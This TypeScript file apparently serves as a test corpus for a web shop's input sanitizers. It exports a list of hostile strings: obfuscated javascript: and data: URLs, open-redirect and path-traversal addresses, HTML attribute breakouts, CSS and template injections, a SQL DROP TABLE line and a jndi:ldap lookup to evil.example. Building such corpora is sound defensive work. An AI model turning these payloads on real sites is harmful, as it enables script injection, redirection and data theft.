/** Texts by which a page could be made to run a script, to load or send something, or to break out of where they stand. */

const SCRIPT_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  ' javascript://%0aalert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://shop.example/1',
  'filesystem:https://shop.example/temporary/x',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:https://evil.example!/x',
  'about:blank',
  'intent://evil.example#Intent;end',
  'ws://evil.example',
  'ftp://evil.example',
  'http://evil.example',
];

const FOREIGN_ADDRESSES = [
  '//evil.example',
  '///evil.example',
  '////evil.example',
  '/\\evil.example',
  '\\/evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/ /evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example',
  'https://shop.example@evil.example',
  'https://shop.example:x@evil.example/',
  'https://evil.example\\@shop.example',
  'https://',
  '%2f%2fevil.example',
  '/%5cevil.example',
  '/..//evil.example',
  '/.//evil.example',
  './/evil.example',
  '../../evil',
  '?next=//evil.example',
  '#javascript:alert(1)',
  'mailto:a@b.example?bcc=evil@evil.example',
  'mailto:x@y.example%0abcc:evil@evil.example',
  'mailto:"<script>"@x.example',
  'mailto://evil.example',
  'tel:javascript:alert(1)',
  'tel:+1;phone-context=evil',
  '/media/../../etc/passwd',
  '/media/%2e%2e/api/order',
  '/media/x" onerror="alert(1)',
  "/media/x' onerror='alert(1)",
  '/media/<svg>',
  '/media/x)url(//evil.example',
];

const TAGS = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'form', 'base', 'link', 'meta', 'style', 'math'];
const EVENTS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart'];
const BREAKS = ['"', "'", '>', '-->', '</script>', '</style>', '</textarea>', ']]>', '`', '\u2028', '%22', '&quot;'];

const markup = TAGS.flatMap((tag) => [
  `<${tag} src=x onerror=alert(1)>`,
  `</${tag}><${tag}/x onload=alert(1)//`,
  `<${tag.toUpperCase()} href=javascript:alert(1) xlink:href=javascript:alert(1)>`,
]);

const breakouts = BREAKS.flatMap((end) => EVENTS.map((event) => `x${end} ${event}=alert(1) `));

const STYLES = [
  'red;background:url(//evil.example)',
  'expression(alert(1))',
  'url(javascript:alert(1))',
  '#fff;position:fixed',
  '#ffffff}body{display:none',
  'rgb(1,2,3);x:y',
  'rgb(999,999,999)',
  'rgba(1,2,3,0)',
  'var(--x)',
  '-moz-binding:url(//evil.example)',
  '@import "//evil.example"',
  '\\75rl(//evil.example)',
  'fixed inset-0 z-50"',
  'constructor',
  '__proto__',
  'toString',
];

const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{productPrice(<img src=x onerror=alert(1)>)}}',
  '{{orderCount()}}<script>alert(1)</script>',
  '{{{{orderCount()}}}}',
  '{{orderCount()',
  '}}{{',
  '\u0024{alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '\ud800',
  '\u202e',
  '\u0000',
  "'; DROP TABLE story; --",
  '\u0024{jndi:ldap://evil.example/a}',
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPT_ADDRESSES,
  ...FOREIGN_ADDRESSES,
  ...markup,
  ...breakouts,
  ...STYLES,
  ...TEMPLATES,
];
